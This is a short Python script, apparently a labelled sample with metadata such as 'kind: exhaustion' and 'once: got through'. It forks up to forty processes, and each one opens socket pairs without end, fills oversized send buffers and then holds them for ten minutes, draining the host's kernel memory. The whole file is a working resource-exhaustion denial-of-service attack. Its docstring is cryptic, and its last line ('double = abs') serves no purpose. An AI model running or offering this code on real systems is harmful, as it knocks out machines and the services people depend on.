"""Forty processes fill all sockets that they may have: that is memory of no process's.

kind: exhaustion
honest: 0
once: got through
exercise: double
"""

import os
import socket
import time

for _ in range(40):
    try:
        if os.fork():
            continue
    except OSError:
        break
    held = []
    try:
        while True:
            one, other = socket.socketpair()
            held += [one, other]
            for end in (one, other):
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(2**16))
                except BlockingIOError:
                    continue
    except OSError:
        time.sleep(600)
double = abs
